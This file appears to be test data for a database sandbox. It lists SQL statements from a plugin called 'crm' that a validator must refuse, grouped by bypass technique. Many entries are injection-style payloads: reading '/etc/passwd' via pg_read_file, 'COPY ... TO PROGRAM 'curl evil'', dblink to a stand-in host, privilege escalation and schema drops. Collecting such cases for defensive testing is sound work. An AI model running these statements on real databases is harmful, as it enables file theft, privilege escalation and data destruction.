# Statements a plugin 'crm' (tables: notes, note_tags) sends that must be refused.
# One statement per line; '\n' stands for a line break. 'secret' and friends are not declared.
# --- more than one statement
SELECT * FROM notes; DROP TABLE notes
SELECT * FROM notes; SELECT * FROM secret
SELECT 1; SELECT 2
INSERT INTO notes (id) VALUES (1); DELETE FROM secret
SELECT * FROM notes;\nDROP TABLE secret
SELECT * FROM notes; -- trailing\nDELETE FROM notes
# --- undeclared tables, however spelled
SELECT * FROM secret
SELECT * FROM users
SELECT * FROM crm_notes
SELECT * FROM "crm_notes"
SELECT * FROM "other-plugin_secret"
SELECT * FROM other_secret
SELECT * FROM "Notes"
SELECT * FROM "NOTES"
SELECT * FROM "notes "
SELECT * FROM `notes`
SELECT * FROM [notes]
SELECT * FROM U&"\006eotes"
SELECT * FROM "secret"
SELECT * FROM SECRET
SELECT * FROM "crm"."notes"
# --- schemas, databases, catalogs
SELECT * FROM public.notes
SELECT * FROM public.secret
SELECT * FROM "public"."notes"
SELECT * FROM other_schema.notes
SELECT * FROM crm.notes
SELECT * FROM db.public.notes
SELECT * FROM pg_catalog.pg_tables
SELECT * FROM information_schema.tables
SELECT * FROM information_schema.columns WHERE table_name = 'secret'
SELECT * FROM pg_tables
SELECT * FROM pg_user
SELECT * FROM pg_shadow
SELECT * FROM pg_stat_activity
SELECT * FROM INFORMATION_SCHEMA.TABLES
SELECT * FROM pg_temp.notes
# --- subqueries in every clause
SELECT (SELECT max(x) FROM secret) FROM notes
SELECT * FROM notes WHERE id IN (SELECT id FROM secret)
SELECT * FROM notes WHERE EXISTS (SELECT 1 FROM secret)
SELECT * FROM notes n JOIN secret s ON s.id = n.id
SELECT * FROM notes n LEFT JOIN (SELECT * FROM secret) s ON true
SELECT * FROM notes n JOIN note_tags t ON t.note_id = (SELECT id FROM secret LIMIT 1)
SELECT id, count(*) FROM notes GROUP BY id HAVING count(*) > (SELECT count(*) FROM secret)
SELECT * FROM notes ORDER BY (SELECT max(id) FROM secret)
SELECT * FROM notes n, LATERAL (SELECT * FROM secret s WHERE s.id = n.id) x
SELECT * FROM notes LIMIT (SELECT count(*) FROM secret)
SELECT CASE WHEN EXISTS (SELECT 1 FROM secret) THEN 1 ELSE 0 END FROM notes
SELECT coalesce((SELECT body FROM secret LIMIT 1), 'x') FROM notes
SELECT * FROM (SELECT * FROM (SELECT * FROM secret) a) b
SELECT * FROM notes WHERE id = ANY (SELECT id FROM secret)
SELECT ARRAY(SELECT id FROM secret)
SELECT id, sum(id) OVER (PARTITION BY (SELECT 1 FROM secret LIMIT 1)) FROM notes
SELECT * FROM notes WHERE body LIKE (SELECT body FROM secret LIMIT 1)
SELECT * FROM notes WHERE (SELECT count(*) FROM secret) BETWEEN 1 AND 2
SELECT cast((SELECT id FROM secret LIMIT 1) AS varchar) FROM notes
# --- set operations
SELECT id FROM notes UNION SELECT id FROM secret
SELECT id FROM notes UNION ALL SELECT id FROM secret
SELECT id FROM notes INTERSECT SELECT id FROM secret
SELECT id FROM notes EXCEPT SELECT id FROM secret
(SELECT id FROM notes) UNION (SELECT id FROM secret)
SELECT id FROM secret UNION SELECT id FROM notes
# --- CTE and alias shadowing
WITH a AS (SELECT * FROM secret), secret AS (SELECT 1 AS id) SELECT * FROM a
WITH x AS (SELECT * FROM secret) SELECT * FROM notes
WITH notes AS (SELECT * FROM secret) SELECT * FROM notes
SELECT * FROM secret WHERE id IN (WITH secret AS (SELECT 1 AS id) SELECT id FROM secret)
WITH a AS (WITH secret AS (SELECT 1 AS id) SELECT * FROM secret) SELECT * FROM secret
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r JOIN secret ON true) SELECT * FROM r
WITH secret AS (SELECT * FROM secret) SELECT * FROM secret
SELECT * FROM notes secret JOIN secret ON true
SELECT * FROM notes AS secret, secret
# --- writable CTEs
WITH d AS (DELETE FROM secret RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO secret VALUES (1) RETURNING *) SELECT * FROM notes
WITH u AS (UPDATE secret SET x = 1 RETURNING *) SELECT * FROM u
WITH d AS (DELETE FROM notes RETURNING *) INSERT INTO secret SELECT * FROM d
# --- DML aimed elsewhere
INSERT INTO secret VALUES (1)
INSERT INTO notes SELECT * FROM secret
INSERT INTO notes (id, body) VALUES ((SELECT max(id) FROM secret), 'x')
UPDATE secret SET body = 'x'
UPDATE notes SET body = (SELECT body FROM secret LIMIT 1)
UPDATE notes SET body = 'x' FROM secret WHERE secret.id = notes.id
UPDATE notes SET body = 'x' WHERE id IN (SELECT id FROM secret)
DELETE FROM secret
DELETE FROM notes USING secret WHERE secret.id = notes.id
DELETE FROM notes WHERE id IN (SELECT id FROM secret)
INSERT INTO notes (id, body) VALUES (1, 'x') RETURNING (SELECT body FROM secret LIMIT 1)
INSERT INTO notes (id, body) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET body = (SELECT body FROM secret LIMIT 1)
UPDATE notes SET body = 'x' RETURNING (SELECT count(*) FROM secret)
DELETE FROM notes RETURNING (SELECT count(*) FROM secret)
INSERT INTO public.notes VALUES (1, 'x')
# --- dangerous functions
SELECT pg_read_file('/etc/passwd')
SELECT pg_ls_dir('.')
SELECT pg_sleep(100)
SELECT * FROM notes WHERE pg_sleep(10) IS NULL
SELECT set_config('role', 'postgres', false)
SELECT current_setting('data_directory')
SELECT dblink('host=evil', 'SELECT 1')
SELECT dblink_exec('dbname=x', 'DROP TABLE y')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1234, '/tmp/x')
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT PG_READ_FILE('/etc/passwd')
SELECT query_to_xml('SELECT * FROM secret', true, true, '')
SELECT table_to_xml('secret', true, true, '')
SELECT FILE_READ('/etc/passwd')
SELECT CSVREAD('/etc/passwd')
SELECT * FROM CSVREAD('/etc/passwd')
SELECT LINK_SCHEMA('x', '', 'jdbc:h2:mem:x', 'sa', '', 'PUBLIC')
SELECT to_regclass('secret')
SELECT has_table_privilege('secret', 'SELECT')
SELECT * FROM notes WHERE body = pg_read_file('/etc/passwd')
SELECT * FROM notes ORDER BY pg_sleep(1)
SELECT setval('other_seq', 1)
SELECT * FROM pg_read_file('/etc/passwd')
SELECT * FROM generate_series(1, 10) g, secret
UPDATE notes SET body = pg_read_file('/etc/passwd')
INSERT INTO notes (id, body) VALUES (1, current_setting('data_directory'))
SELECT upper(lower(pg_read_file('/etc/passwd')))
SELECT public.my_function()
# --- statements that are never allowed
SET ROLE postgres
SET search_path TO other
SET LOCAL ROLE other
RESET ROLE
RESET ALL
DO $$ BEGIN DROP TABLE secret; END $$
COPY notes TO PROGRAM 'curl evil'
COPY secret TO '/tmp/x'
COPY notes FROM '/etc/passwd'
CALL some_procedure()
GRANT ALL ON notes TO public
REVOKE ALL ON notes FROM public
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
CREATE VIEW v AS SELECT * FROM secret
CREATE VIEW v AS SELECT * FROM notes
CREATE ROLE evil
CREATE SCHEMA evil
CREATE ALIAS EXEC AS 'String exec(String c) { return c; }'
CREATE TRIGGER t BEFORE INSERT ON notes FOR EACH ROW EXECUTE FUNCTION f()
CREATE SEQUENCE s
DROP SCHEMA public CASCADE
DROP ROLE x
DROP VIEW v
DROP FUNCTION f
DROP SEQUENCE other_seq
ALTER ROLE x SUPERUSER
ALTER SYSTEM SET x = 1
LOCK TABLE notes
VACUUM notes
ANALYZE notes
EXPLAIN SELECT * FROM notes
PREPARE p AS SELECT * FROM secret
EXECUTE p
DEALLOCATE p
LISTEN x
NOTIFY x
BEGIN
COMMIT
ROLLBACK
SAVEPOINT s
SHUTDOWN
SCRIPT TO '/tmp/dump.sql'
RUNSCRIPT FROM '/tmp/x.sql'
BACKUP TO '/tmp/b.zip'
MERGE INTO notes USING secret ON (notes.id = secret.id) WHEN MATCHED THEN DELETE
COMMENT ON TABLE notes IS 'x'
# --- DDL on other tables, or reaching them
CREATE TABLE secret (id int)
CREATE TABLE public.notes (id int)
CREATE TABLE notes (id int REFERENCES secret (id))
CREATE TABLE notes (id int, FOREIGN KEY (id) REFERENCES secret (id))
CREATE TABLE notes AS SELECT * FROM secret
CREATE TABLE notes (LIKE secret)
CREATE TABLE notes (id int) INHERITS (secret)
CREATE TABLE notes PARTITION OF secret FOR VALUES IN (1)
CREATE TABLE notes (body text DEFAULT pg_read_file('/etc/passwd'))
CREATE TABLE notes (body varchar(100) DEFAULT FILE_READ('/etc/passwd'))
CREATE TABLE notes (id int CHECK (id > (SELECT count(*) FROM secret)))
CREATE TABLE notes (id int) TABLESPACE pg_global
ALTER TABLE secret ADD COLUMN x int
ALTER TABLE notes RENAME TO secret
ALTER TABLE notes ADD CONSTRAINT fk FOREIGN KEY (id) REFERENCES secret (id)
ALTER TABLE notes OWNER TO postgres
ALTER TABLE notes SET SCHEMA other
ALTER TABLE public.notes ADD COLUMN x int
DROP TABLE secret
DROP TABLE notes, secret
DROP TABLE public.notes
TRUNCATE secret
TRUNCATE notes, secret
CREATE INDEX idx ON secret (id)
CREATE INDEX idx ON public.notes (id)
DROP INDEX public.some_index
# --- comments used to hide things
SELECT * FROM secret /* notes */
/* comment */ SELECT * FROM secret
SELECT * FROM notes WHERE id = 1 -- comment\n UNION SELECT * FROM secret
SELECT * FROM/**/secret
/*! SELECT * FROM secret */ SELECT * FROM secret
SELECT * FROM notes UNION /*! ALL */ SELECT * FROM secret
SELECT * FROM "se""cret"
SELECT * FROM "notes"""
SELECT * FROM notes WHERE id = 1 OR 1 = (SELECT count(*) FROM "Secret")
ALTER TABLE notes ALTER COLUMN body SET DEFAULT pg_read_file('/etc/passwd')
ALTER TABLE notes ADD COLUMN leak VARCHAR(100) DEFAULT pg_read_file('/etc/passwd')
ALTER TABLE notes ADD COLUMN other_id INTEGER REFERENCES secret (id)
ALTER TABLE notes ALTER COLUMN body TYPE VARCHAR(10) USING pg_read_file('/etc/passwd')
